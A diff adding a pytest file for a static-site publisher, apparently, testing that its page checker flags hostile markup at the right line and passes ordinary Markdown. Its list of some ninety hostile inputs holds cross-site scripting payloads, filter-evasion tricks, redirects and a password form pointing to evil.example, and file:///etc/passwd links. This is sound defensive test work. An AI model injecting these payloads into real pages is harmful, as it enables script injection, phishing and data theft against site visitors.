@@ -1,0 +1,190 @@
+"""The read of a built page: what a stranger smuggles into a page is refused at its line, what an editor writes passes."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from markdown import Markdown
+
+from ledger.publish import html
+from ledger.publish.site import Site
+from ledger.views.markdown import EXTENSIONS
+
+#: What the site's settings switch on, and what an editor may add to them.
+EXTRAS = ["abbr", "admonition", "def_list", "footnotes", "md_in_html", "pymdownx.details", "pymdownx.superfences", "pymdownx.tasklist", "pymdownx.highlight"]  # fmt: skip
+SHELL = """<!doctype html>
+<html lang="en" class="no-js">
+  <head>
+    <meta charset="utf-8"><title>Page</title>
+  </head>
+  <body>
+    <input type="checkbox" id="__drawer">
+    <article class="md-content__inner md-typeset">
+{}
+    </article>
+  </body>
+</html>
+"""
+BEFORE = '# Page { #page }\n\nSome words and a "quotation".\n\n'
+NAMES = frozenset({"method/index.html", "assets/logo.svg", "assets/javascripts/ledger.js"})
+
+
+def problems(text: str, tmp_path: Path, own: str = "https://site.example/base/") -> list[str]:
+    """Return what is said of a page with the text in its middle."""
+    (tmp_path / "docs").mkdir(exist_ok=True)
+    (tmp_path / "docs/method.md").write_text(f"{BEFORE}{text}\n\n## After {{ #after }}\n\nMore.\n", "utf-8")
+    markdown = Markdown(extensions=list(dict.fromkeys([*EXTENSIONS, *EXTRAS])))
+    page = html.Page(SHELL.format(markdown.convert((tmp_path / "docs/method.md").read_text("utf-8"))))
+    page.findings.extend(html.Finding("unpinned", (script, "<script")) for script in page.scripts)
+    site = Site(own, NAMES, {"method/index.html": page})
+    return [str(p) for p in site.problems(tmp_path, {"method/index.html": "docs/method.md"})]
+
+
+HOSTILE = {
+    "script": "<script>alert(1)</script>",
+    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
+    "script of the site": "<script src=assets/javascripts/ledger.js></script>",
+    "script as data": '<script type="application/json" src="x">1</script>',
+    "script as a module": '<script type="module">import "x"</script>',
+    "script with two types": '<script type="text/javascript" type="application/ld+json">alert(1)</script>',
+    "script that ends for browsers only": '<script type="application/ld+json">1</script/x><b>x</b></script>',
+    "script with a slash": "<script/x>alert(1)</script>",
+    "handler": "<p onclick=alert(1)>x</p>",
+    "handler after a slash": "<p/onclick=alert(1)>x</p>",
+    "handler without a blank": '<p title="x"onclick="alert(1)">x</p>',
+    "handler in capitals": '<p ONCLICK="alert(1)">x</p>',
+    "handler of a picture": '<img src="../assets/logo.svg" alt="" onerror="alert(1)">',
+    "handler of details": "<details ontoggle=alert(1) open>x</details>",
+    "handler in an attribute list": 'A word.\n{: onclick="alert(1)" }',
+    "handler in a heading": '### Heading { onmouseover="x" }',
+    "handler in a link": '[x](#page){ onfocus="x" }',
+    "style attribute": '<div style="position:fixed">x</div>',
+    "style in an attribute list": 'A *word*{ style="display:none" } here.',
+    "style": "<style>body{display:none}</style>",
+    "base": '<base href="https://evil.example/">',
+    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    "policy of one's own": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
+    "style sheet": "<link rel=stylesheet href=//evil.example/x.css>",
+    "frame": '<iframe src="https://evil.example"></iframe>',
+    "frame of a text": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "form": '<form action="https://evil.example"><input name="password"></form>',
+    "field": "<input name=password>",
+    "box that can be ticked": '<input type="checkbox" onchange="x">',
+    "button": '<button formaction="javascript:alert(1)">x</button>',
+    "object": '<object data="x"></object>',
+    "embedded": '<embed src="x">',
+    "mathematics": "<math><mi>x</mi></math>",
+    "video": "<video autoplay></video>",
+    "template": "<template><b>x</b></template>",
+    "text without end": "<plaintext>",
+    "field of text": "<textarea>",
+    "old raw text": "<xmp><b></xmp>",
+    "no script": "<noscript>x</noscript>",
+    "element of one's own": "<x-y>x</x-y>",
+    "title": '<title><b title="</title><script>alert(1)</script>"></b></title>',
+    "end of the article": "</article><form>x</form>",
+    "second article": "<article>x</article>",
+    "element never closed": "<div>\n\nSwallowed.",
+    "bold never closed": "<b>x",
+    "end of nothing": "</section>",
+    "end of the body": "</body>",
+    "drawing with a script": "<svg><script>alert(1)</script></svg>",
+    "drawing with a handler": "<svg onload=alert(1)></svg>",
+    "drawing with HTML": "<svg><p>x</p></svg>",
+    "drawing with a foreign object": "<svg><foreignObject><p>x</p></foreignObject></svg>",
+    "drawing with a title that ends": "<svg><title><style><img title='</style><img src=x onerror=x>'></title></svg>",
+    "drawing with an animation": '<svg><a href="#page"><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
+    "drawing with a link": '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
+    "drawing with an old link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    "drawing from elsewhere": '<svg><rect fill="url(https://evil.example/#x)"/></svg>',
+    "drawing from elsewhere, spelt": r'<svg><rect fill="u\72l(https://evil.example/#x)"/></svg>',
+    "part from elsewhere": '<svg><use href="https://evil.example/#x"/></svg>',
+    "comment of two readings": "a <!--><script>alert(1)</script>-->",
+    "comment with another end": "<!-- x --!><script>alert(1)</script> -->",
+    "instruction": "<?php x ?>",
+    "declaration": "<!DOCTYPE x>",
+    "section of XML": "<![CDATA[<script>alert(1)</script>]]>",
+    "other pictures": '<img src="../assets/logo.svg" alt="" srcset="https://evil.example/x 2x">',
+    "picture from elsewhere": "![x](https://evil.example/x.png)",
+    "picture as data": "![x](data:image/svg+xml,x)",
+    "ping": '<a href="https://a.example" ping="https://evil.example">x</a>',
+    "other window": '<a href="https://a.example" target="_top">x</a>',
+    "control of the theme": '<div data-md-component="search">x</div>',
+    "id of the theme": "### x { #__drawer }",
+    "id twice": "### x { #after }",
+    "editable": "<p contenteditable>x</p>",
+    "script's address": "[x](javascript:alert(1))",
+    "script's address in capitals": "[x](JAVASCRIPT:alert(1))",
+    "script's address with a reference": "<a href=java&#115;cript:alert(1)>x</a>",
+    "script's address with a named reference": "[x](javascript&colon;alert(1))",
+    "script's address with a tab": '<a href="java&Tab;script:alert(1)">x</a>',
+    "script's address behind a blank": '<a href=" &#1;javascript:alert(1)">x</a>',
+    "script's address by reference": "See [here][r].\n\n[r]: javascript:alert(1)",
+    "data's address": "[x](data:text/html,x)",
+    "other script's address": "[x](vbscript:x)",
+    "file": "[x](file:///etc/passwd)",
+    "plain http": "<http://evil.example/>",
+    "address without its kind": "[x](//evil.example/)",
+    "backslashes": "[x](\\\\\\\\evil.example)",
+    "user's name": "[x](https://good.example@evil.example/)",
+    "words are another address": '<a href="https://evil.example">https://good.example</a>',
+    "words are another address, in parts": "[https://**good**.example/x](https://evil.example/x)",
+    "words are another address with www": "[www.good.example](https://evil.example/)",
+    "out of the site": "[x](../../../etc/passwd)",
+    "no such anchor": '<a href="#none">x</a>',
+    "no such page": '<a href="../none/">x</a>',
+    "template mark": "{{ fig }}",
+    "empty value": "<p>None</p>",
+    "error": "Traceback (most recent call last)",
+}
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
+def test_what_must_not_be_published_is_named_at_its_line(text: str, tmp_path: Path) -> None:
+    found = problems(text, tmp_path)
+    assert found, text
+    lines = range(5, 6 + text.count("\n"))
+    assert any(p.startswith(tuple(f"docs/method.md:{n}: " for n in lines)) for p in found), found
+
+
+HONEST = {
+    "admonition": '!!! note "Mind *this*"\n    Words.',
+    "details": '??? tip "More"\n    Words.',
+    "details in HTML": "<details markdown><summary>More</summary>\n\nSome *text*.\n\n</details>",
+    "footnotes": "A word.[^1] Another.[^1]\n\n[^1]: Its **note**.",
+    "definitions": "Word\n:   What it means.\n\n:   What else.",
+    "tasks": "- [ ] open\n- [x] done",
+    "code": '```python title="x.py" hl_lines="1"\nprint("<script>")\n```\n\nA `<script>` and `{{ x }}`.',
+    "table": "| a | b |\n| --- | ---: |\n| 1 | None of them |",
+    "table in HTML": '<table><colgroup><col span="2"></colgroup><tr><th scope="col" colspan="2">a<tr><td rowspan=2>b</table>',
+    "paragraphs without ends": "<p>One\n<p>Two</p>",
+    "list without ends": "<ol start=3 type=a reversed><li value=4>One<li>Two</ol>",
+    "small elements": "H<sub>2</sub>O, x<sup>2</sup>, <kbd>Ctrl</kbd>, <mark>m</mark>, <abbr title='World'>W</abbr>, <small>s</small>, <q cite='https://a.example/'>q</q>, <s>x</s>, <wbr>, <time datetime='2026-01-01'>then</time>",
+    "abbreviation": "The HTML standard.\n\n*[HTML]: Hyper Text",
+    "figure": '<figure markdown="span">\n  ![Logo](../assets/logo.svg){ width="20" loading=lazy }\n  <figcaption>Words</figcaption>\n</figure>',
+    "quotation": "> Words\n>\n> > More",
+    "ruby": "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>",
+    "languages": 'A <span lang="nl" dir="ltr" translate="no">woord</span>.',
+    "Markdown in HTML": '<div class="grid cards md-overlay" id="Any_Name-1" markdown>\n\nA *word*.\n\n</div>',
+    "button": "[Go](#page){ .md-button .md-button--primary }",
+    "mail": "[Write](mailto:a@a.example) or <a@a.example>",
+    "other window": '[x](https://a.example/){ target="_blank" rel="noopener" }',
+    "links": '[x](https://a.example/a?b=1&c=2#d "Title"), [x](#after), [x](../method/#page), <https://a.example/a>',
+    "words are the address": "[https://www.a.example/](https://a.example/x), [a.example](#page), [Creati.ai](https://b.example/)",
+    "words are the site's address": "[https://site.example/base/](../method/)",
+    "comment": "<!-- more to come -->\n\n<!-- <b>a</b> - b -->",
+    "tag never closed": '<a href="https://swallow.example',
+    "handler in a tag never closed": "x <img src=x onerror=alert(1)",
+    "less than": "So a < b and c > d, R&D, AT&T, x&y=z, &copy; 2026.",
+    "script's name in words": "javascript:alert(x), onclick=x, style=y",
+    "drawing": '<svg viewBox="0 0 2 2" role="img" aria-labelledby="t"><title id="t">T</title><a href="#page"><path class="x" d="M0 0h1"/></a></svg>',
+    "data for search engines": '<script type="application/ld+json">{"@type": "Dataset"}</script>',
+    "None in a sentence": "None of them says so.",
+    "file with a blank": "[x](<../method/?a=b c>)",
+}
+
+
+@pytest.mark.parametrize("text", HONEST.values(), ids=HONEST)
+def test_what_an_editor_writes_passes(text: str, tmp_path: Path) -> None:
+    assert problems(text, tmp_path) == []
